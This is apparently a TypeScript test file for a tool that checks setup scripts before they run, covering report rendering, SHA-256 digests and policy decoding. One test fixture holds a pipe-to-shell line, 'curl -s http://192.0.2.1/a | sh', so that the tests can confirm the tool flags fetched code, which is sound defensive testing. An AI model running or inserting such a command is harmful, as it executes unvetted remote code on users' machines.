import { assert, describe, it } from "@effect/vitest"
import {
  Checks,
  Sha256,
  VerificationFailed,
  VerificationPolicy,
  VerificationReport,
  VerifySetupScript
} from "@privx-kit/ueba"
import * as Effect from "effect/Effect"
import * as Exit from "effect/Exit"
import * as Schema from "effect/Schema"
import { sampleBytes } from "./SampleScript.ts"

const throughJson = <S extends Schema.Codec<unknown>>(schema: S, value: S["Type"]): S["Type"] => {
  const codec = Schema.toCodecJson(schema)
  return Schema.decodeUnknownSync(codec)(JSON.parse(JSON.stringify(Schema.encodeSync(codec)(value))))
}

describe("VerificationReport", () => {
  it.prop("survives a JSON round trip", { report: VerificationReport.VerificationReport }, ({ report }) => {
    assert.deepStrictEqual(throughJson(VerificationReport.VerificationReport, report), report)
  })

  it.prop(
    "survives it inside the failure, which stays the same class",
    { report: VerificationReport.VerificationReport },
    ({ report }) => {
      const failure = new VerificationFailed({ report })
      const again = throughJson(VerificationFailed, failure)
      assert.instanceOf(again, VerificationFailed)
      assert.deepStrictEqual(again.report, failure.report)
      assert.strictEqual(again.message, failure.message)
      assert.strictEqual(again.hint, failure.hint)
    }
  )

  it.effect("reads back a report with checks that this version does not have", () =>
    Effect.gen(function* () {
      const { checks, ...rest } = yield* VerifySetupScript.verifySetupScript(sampleBytes)
      const newer = { ...rest, verified: false, checks: [{ ...checks[0]!, name: "newer", outcome: "failed" as const }] }
      const failure = new VerificationFailed({ report: newer })
      assert.strictEqual(throughJson(VerificationFailed, failure).report.checks[0]?.name, "newer")
      assert.include(failure.hint, "Do not run the script")
    })
  )

  it.effect("renders to one line, with counts, and names what failed or warned", () =>
    Effect.gen(function* () {
      const good = yield* VerifySetupScript.inspectSetupScript(sampleBytes)
      const { failed, notApplicable, off, passed, warned } = VerificationReport.counts(good)
      assert.deepStrictEqual([failed, warned, off, passed + notApplicable], [0, 0, 0, Checks.all.length])
      assert.strictEqual(VerificationReport.renderCounts(good), `${passed} passed, ${notApplicable} not applicable`)
      const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode("#!/bin/sh\nif a\n"))
      assert.match(
        VerificationReport.renderLine(report),
        /^not verified: 2 failed, 1 warned, \d+ passed, \d+ not applicable; failed: shellSyntax, complete; warned: endsInCommand \(15 bytes, SHA-256 [0-9a-f]{64}\)$/
      )
    })
  )

  it.effect("renders what failed and warned first, with place, excerpt, reason and advice", () =>
    Effect.gen(function* () {
      const text = "#!/bin/sh\nif a\ncurl -s http://192.0.2.1/a | sh\n"
      const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode(text))
      const lines = VerificationReport.render(report).split("\n")
      assert.strictEqual(lines[0], `not verified, ${text.length} bytes, SHA-256 ${report.sha256}`)
      assert.strictEqual(lines[1], VerificationReport.renderCounts(report))
      assert.match(lines[2] ?? "", /^This script runs code /)
      assert.match(lines[3] ?? "", /^ {2}failed .*Shell syntax \(shellSyntax\) .*required/)
      const words = lines
        .slice(2)
        .flatMap((line) => /^ {2}(failed|warned|passed|not applicable) /.exec(line)?.[1] ?? [])
      assert.deepStrictEqual([...new Set(words)], ["failed", "warned", "passed", "not applicable"])
      assert.include(lines.join("\n"), "line 2: if is never closed – if a")
      const fetched = report.checks.find(({ name }) => name === "noFetchedCode")!
      const explanation = VerificationReport.explanation(fetched)
      assert.include(explanation[0], "line 3: curl -s http://192.0.2.1/a | sh")
      assert.deepStrictEqual(explanation.slice(1), [
        `Why: ${Checks.get("noFetchedCode")?.why}`,
        `What to do: ${Checks.get("noFetchedCode")?.hint}`
      ])
    })
  )

  it.effect("quotes the script without what a terminal obeys", () =>
    Effect.gen(function* () {
      const text = `#!/bin/sh\n${" ".repeat(300)}echo \u001b[2Jhidden "\n`
      const report = yield* VerifySetupScript.inspectSetupScript(new TextEncoder().encode(text))
      assert.notInclude(VerificationReport.render(report), "\u001b")
      assert.isAbove(
        report.checks.filter(({ excerpt, places }) => excerpt !== undefined || places !== undefined).length,
        0
      )
    })
  )
})

describe("Sha256", () => {
  it("is what sha256sum prints", () => {
    assert.strictEqual(
      Sha256.of(new TextEncoder().encode("abc")),
      "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    )
  })

  it("decodes either case, and nothing that is no digest", () => {
    const decode = Schema.decodeUnknownExit(Sha256.Sha256)
    const digest = Sha256.of(sampleBytes)
    assert.deepStrictEqual(decode(digest.toUpperCase()), Exit.succeed(digest))
    for (const wrong of ["", digest.slice(1), `${digest}0`, digest.replace(/./, "g"), ` ${digest}`, 5, null]) {
      assert.isTrue(Exit.isFailure(decode(wrong)))
    }
  })
})

describe("VerificationPolicy", () => {
  const decode = Schema.decodeUnknownExit(VerificationPolicy.VerificationPolicy)

  it("decodes what it knows, and refuses a name or a requirement that it does not", () => {
    assert.deepStrictEqual(decode({}), Exit.succeed({}))
    const digest = Sha256.of(sampleBytes)
    const policy = {
      checks: { notHtml: "off", signature: "demanded" },
      knownDigests: [{ sha256: digest, comment: "approved" }],
      writePlaces: ["/srv"],
      configuration: { address: "ueba.example.com", trust_anchors: "" }
    } as const
    assert.deepStrictEqual<unknown>(decode(policy), Exit.succeed(policy))
    for (const wrong of [
      { notHtml: "off" },
      { checks: { notHtlm: "off" } },
      { checks: { notHtml: "ignore" } },
      { writePlaces: ["srv"] },
      { knownDigests: [digest] },
      { signature: { signature: "x", publicKey: "y" } },
      { Checks: {} }
    ]) {
      assert.isTrue(Exit.isFailure(decode(wrong)), JSON.stringify(wrong))
    }
  })

  it("has a documented check for each name, in the same order", () => {
    assert.deepStrictEqual(
      Checks.all.map((check) => check.name),
      [...VerificationPolicy.CheckName.literals]
    )
    for (const check of Checks.all) {
      assert.isNotEmpty(check.title)
      assert.isNotEmpty(check.documentation)
      assert.isNotEmpty(check.hint)
      assert.isNotEmpty(check.why)
    }
  })
})
